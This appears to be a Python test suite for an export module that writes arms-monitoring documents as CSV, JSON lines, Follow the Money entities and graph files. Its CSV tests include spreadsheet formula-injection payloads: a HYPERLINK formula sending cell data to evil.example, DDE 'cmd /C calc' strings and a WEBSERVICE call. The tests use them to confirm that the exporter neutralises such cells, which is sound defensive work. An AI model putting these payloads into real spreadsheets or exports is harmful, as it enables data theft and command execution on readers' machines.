"""The export formats (exports/), on the contract suite's documents and on hostile ones: each
file read back with the tool its readers use (csv, pydantic, followthemoney, networkx)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime
from typing import Any
from xml.etree import ElementTree

import networkx as nx
import pytest
from followthemoney import model

from exports.csv_export import COLUMNS, csv_chunks
from exports.formats import FORMATS
from exports.ftm_export import ftm_chunks
from exports.graph_export import country_label, gexf_chunks, graphml_chunks
from exports.jsonl_export import jsonl_chunks
from exports.snippet import plain_snippet, words_pattern
from schema.document import Capture, Document
from tests.contract.contract_documents import FIXTURE_DOCUMENTS

DOCUMENTS = list(FIXTURE_DOCUMENTS.values())
CAPTURE = Capture(
    warc="captures-20250301.warc.gz",
    offset=1234,
    length=5678,
    record_id="<urn:uuid:0b5e7a1c-3f2e-4c43-9a57-1f2b3c4d5e6f>",
    payload_sha256="9f" * 32,
    fetched_at=datetime(2025, 3, 1, 12, tzinfo=UTC),
    url="https://news.example.org/captured",
    status=200,
)
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Quote " and, comma\nand newline',
]


def csv_rows(documents: Iterable[Document], words: tuple[str, ...] = ()) -> list[dict[str, str]]:
    data = b"".join(csv_chunks(documents, words))
    assert data.startswith(b"\xef\xbb\xbf")  # a byte order mark: spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def ftm_entities(documents: Iterable[Document]) -> Iterator[dict[str, Any]]:
    for line in b"".join(ftm_chunks(documents)).decode().splitlines():
        yield json.loads(line)


def assert_valid_ftm(data: dict[str, Any]) -> None:
    """`data` is an entity of a concrete FtM schema, with only its schema's properties, every
    required one, and values its property types accept unchanged."""
    proxy = model.get_proxy(data, cleaned=False)  # every value parsed again by its property type
    schema = proxy.schema
    assert not schema.abstract, schema.name
    assert set(data["properties"]) <= set(schema.properties), schema.name
    schema.validate(data)  # raises followthemoney.exc.InvalidData
    assert all(data["properties"].get(name) for name in schema.required), schema.name
    assert proxy.to_dict()["properties"] == data["properties"]  # (already clean: nothing changed)


# --- CSV -----------------------------------------------------------------------------------


def test_csv_has_the_documented_columns_and_a_row_per_document() -> None:
    rows = csv_rows(DOCUMENTS)
    assert tuple(rows[0]) == COLUMNS
    assert [row["id"] for row in rows] == [document.id for document in DOCUMENTS]
    report = next(row for row in rows if row["id"] == FIXTURE_DOCUMENTS["report"].id)
    assert report["countries"] == "Mali; Libya" and report["weapon_categories"] == "assault rifle; ammunition"
    assert report["armed_groups"] == "JNIM" and report["weapons"] == "AK-47"
    assert report["published"] == "2022-06-15T09:00:00+00:00" and report["source"] == "ngo-reports"
    assert report["kind"] == "document" and report["watchlist"] == "sahel" and report["language"] == "en"
    forum = next(row for row in rows if row["id"] == FIXTURE_DOCUMENTS["forum"].id)
    assert forum["published"] == "" and forum["capture_sha256"] == ""
    russian = next(row for row in rows if row["id"] == FIXTURE_DOCUMENTS["russian"].id)
    assert russian["title"] == "На границе задержана партия оружия"


def test_csv_cites_the_capture() -> None:
    captured = FIXTURE_DOCUMENTS["mombasa"].model_copy(update={"capture": CAPTURE})
    (row,) = csv_rows([captured])
    assert (row["capture_sha256"], row["capture_warc"]) == ("9f" * 32, "captures-20250301.warc.gz")


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_csv_cells_are_never_formulas(title: str) -> None:
    hostile = Document.new(
        "https://forum.example.org/t/1",
        title=title,
        text=title + " offered at the fair.",
        weapons=['=WEBSERVICE("http://evil.example")'],
        source_id="-source",
    )
    (row,) = csv_rows([hostile])
    for column in COLUMNS:
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
    expected = "'" + title if title[0] in "=+-@\t\r" else title
    assert row["title"] == expected  # the text itself is kept whole, quotes, commas and newlines too
    assert row["weapons"] == '\'=WEBSERVICE("http://evil.example")' and row["source"] == "'-source"


def test_csv_snippet_is_plain_text_around_the_first_search_word() -> None:
    text = " ".join(f"word{number}" for number in range(200)) + " the Kornet launchers <b>seen</b> " + "tail " * 100
    document = Document.new("https://e.org/long", title="Long", text=text)
    (row,) = csv_rows([document], ("kornet",))
    assert "Kornet launchers <b>seen</b>" in row["snippet"]  # plain text: nothing escaped, nothing marked
    assert row["snippet"].startswith("… ") and row["snippet"].endswith(" …")
    assert len(row["snippet"].split()) <= 42
    (row,) = csv_rows([document])  # without search words: the start of the text
    assert row["snippet"].startswith("word0 word1") and len(row["snippet"].split()) == 41


def test_plain_snippet() -> None:
    assert plain_snippet("Short  text,\n on two lines.") == "Short text, on two lines."
    assert plain_snippet("") == ""
    assert plain_snippet("Rifles and launchers", words_pattern(["launch"])) == "Rifles and launchers"
    assert words_pattern([]) is None and words_pattern(["  "]) is None
    assert plain_snippet("a.*b (c) rifle", words_pattern(["(c)"])) == "a.*b (c) rifle"  # words are literal


def test_csv_urls_lose_their_credentials() -> None:
    private = Document.new("https://analyst:s3cret@feeds.example.org/private/1", title="Private")
    (row,) = csv_rows([private])
    assert row["url"] == "https://***@feeds.example.org/private/1"


# --- JSON lines ----------------------------------------------------------------------------


def test_jsonl_reads_back_as_the_documents() -> None:
    documents = [
        *DOCUMENTS,
        FIXTURE_DOCUMENTS["mombasa"].model_copy(update={"capture": CAPTURE, "versions": [CAPTURE]}),
    ]
    lines = b"".join(jsonl_chunks(documents)).decode().split("\n")
    assert lines[-1] == ""  # every line ends
    assert [Document.model_validate_json(line) for line in lines[:-1]] == documents


def test_jsonl_urls_lose_their_credentials() -> None:
    secret = "https://token@feeds.example.org/x"
    private = Document.new(secret, title="Private", links=[secret], capture=CAPTURE.model_copy(update={"url": secret}))
    (line,) = b"".join(jsonl_chunks([private])).decode().splitlines()
    assert "token" not in line
    document = Document.model_validate_json(line)
    assert document.url == document.canonical_url == document.links[0] == "https://***@feeds.example.org/x"
    assert document.capture is not None and document.capture.url == document.url


# --- Follow the Money ------------------------------------------------------------------------


def test_ftm_entities_are_valid_and_links_point_into_the_file() -> None:
    documents = [d.model_copy(update={"capture": CAPTURE}) if d.kind == "document" else d for d in DOCUMENTS]
    entities = list(ftm_entities(documents))
    for data in entities:
        assert_valid_ftm(data)
    ids = [data["id"] for data in entities]
    assert len(ids) == len(set(ids))  # each group and weapon once
    seen: set[str] = set()
    for data in entities:  # every link comes after both of its ends
        if data["schema"] == "Documentation":
            assert {data["properties"]["document"][0], data["properties"]["entity"][0]} <= seen
        seen.add(data["id"])


def test_ftm_documents_entities_and_links() -> None:
    entities = list(ftm_entities(DOCUMENTS))
    by_id = {data["id"]: data for data in entities}
    report = by_id[FIXTURE_DOCUMENTS["report"].id]
    assert report["schema"] == "Pages"  # a document source
    assert report["properties"]["detectedCountry"] == ["ml", "ly"]
    assert report["properties"]["publishedAt"] == ["2022-06-15T09:00:00"]
    assert report["properties"]["sourceUrl"] == ["https://news.example.org/report"]
    assert by_id[FIXTURE_DOCUMENTS["mombasa"].id]["schema"] == "Article"
    named = {data["properties"]["name"][0]: data for data in entities if data["schema"] in ("Asset", "Organization")}
    assert {name: data["schema"] for name, data in named.items()} == {
        "AK-47": "Asset",
        "RPG-7": "Asset",
        "Rapid Support Forces": "Organization",
        "JNIM": "Organization",
    }
    links = {
        (
            by_id[data["properties"]["document"][0]]["properties"]["title"][0],
            by_id[data["properties"]["entity"][0]]["properties"]["name"][0],
        )
        for data in entities
        if data["schema"] == "Documentation"
    }
    assert ("Tracing ammunition in the Sahel", "JNIM") in links
    assert ("Statement on the transfer of armoured vehicles", "Rapid Support Forces") in links
    assert len([link for link in links if link[1] == "AK-47"]) == 4


def test_ftm_ids_are_stable_across_exports() -> None:
    first = [data["id"] for data in ftm_entities(DOCUMENTS)]
    again = [data["id"] for data in ftm_entities(reversed(DOCUMENTS))]
    assert set(first) == set(again)


def test_ftm_notes_cite_the_capture() -> None:
    captured = FIXTURE_DOCUMENTS["forum"].model_copy(update={"capture": CAPTURE})
    (document,) = [data for data in ftm_entities([captured]) if data["id"] == captured.id]
    (notes,) = document["properties"]["notes"]
    assert "captures-20250301.warc.gz" in notes and "offset 1234" in notes and "9f" * 32 in notes


# --- graphs --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["graphml", "gexf"])
def test_cooccurrence_graph_reads_back(name: str) -> None:
    data = b"".join((graphml_chunks if name == "graphml" else gexf_chunks)(DOCUMENTS))
    graph = (nx.read_graphml if name == "graphml" else nx.read_gexf)(io.BytesIO(data))
    assert not graph.is_directed()
    kenya, mombasa = "country:Kenya", [FIXTURE_DOCUMENTS[name].id for name in ("mombasa", "mombasa_copy")]
    assert graph.nodes["weapon:AK-47"]["type"] == "weapon" and graph.nodes["weapon:AK-47"]["document_count"] == 4
    assert graph.nodes[kenya]["label"] == "Kenya (KE)" and graph.nodes[kenya]["document_count"] == 2
    assert graph.nodes["armed_group:JNIM"]["type"] == "armed_group"
    edge = graph.edges["weapon:AK-47", kenya]
    assert edge["weight"] == 2 and sorted(edge["document_ids"].split(" ")) == sorted(mombasa)
    report = FIXTURE_DOCUMENTS["report"].id
    for first, second in [
        ("weapon:AK-47", "armed_group:JNIM"),
        ("weapon:AK-47", "country:Mali"),
        ("armed_group:JNIM", "country:Libya"),
    ]:
        assert graph.edges[first, second]["weight"] == 1 and graph.edges[first, second]["document_ids"] == report
    assert graph.has_edge("armed_group:Rapid Support Forces", "weapon:RPG-7")
    assert not graph.has_edge("country:Mali", "country:Libya")  # same type: not joined
    kinds = {frozenset((graph.nodes[a]["type"], graph.nodes[b]["type"])) for a, b in graph.edges}
    assert all(len(kind) == 2 for kind in kinds)
    assert len(graph.edges) == 10


def test_an_empty_result_set_is_an_empty_graph() -> None:
    graph = nx.read_graphml(io.BytesIO(b"".join(graphml_chunks([]))))
    assert (len(graph.nodes), len(graph.edges)) == (0, 0)


@pytest.mark.parametrize("name", ["graphml", "gexf"])
def test_names_xml_cannot_carry_still_make_a_well_formed_graph(name: str) -> None:
    hostile = FIXTURE_DOCUMENTS["report"].model_copy(
        update={"title": "Bell\x07 report", "weapons": ["AK\x01-47"], "armed_groups": ["JN\x0bIM\x1b"]}
    )
    data = b"".join((graphml_chunks if name == "graphml" else gexf_chunks)([hostile]))
    ElementTree.fromstring(data)  # well-formed: raises on a character XML cannot carry
    graph = (nx.read_graphml if name == "graphml" else nx.read_gexf)(io.BytesIO(data))
    assert graph.has_edge("weapon:AK-47", "armed_group:JNIM")
    assert graph.nodes["armed_group:JNIM"]["label"] == "JNIM"


def test_country_labels() -> None:
    assert country_label("SY") == "Syria (SY)"
    assert country_label("IR") == "Iran (IR)"
    assert country_label("Kenya") == "Kenya (KE)"
    assert country_label("Atlantis") == "Atlantis"


# --- every format --------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(FORMATS))
def test_every_format_streams_without_reading_ahead(name: str) -> None:
    """A format pulls documents as it writes: after the first chunk of a row format, most of a
    long result set has not been read yet (the graphs read everything, then write)."""
    pulled = 0

    def documents() -> Iterator[Document]:
        nonlocal pulled
        for number in range(5000):
            pulled += 1
            yield Document.new(f"https://e.org/{number}", title=f"Doc {number}", text="Rifles seen.", weapons=["AK-47"])

    chunks = FORMATS[name].encode(documents(), ["rifles"])
    assert next(chunks)
    assert pulled < 1000 if name in ("csv", "jsonl", "ftm") else pulled == 5000
    b"".join(chunks)
    assert pulled == 5000
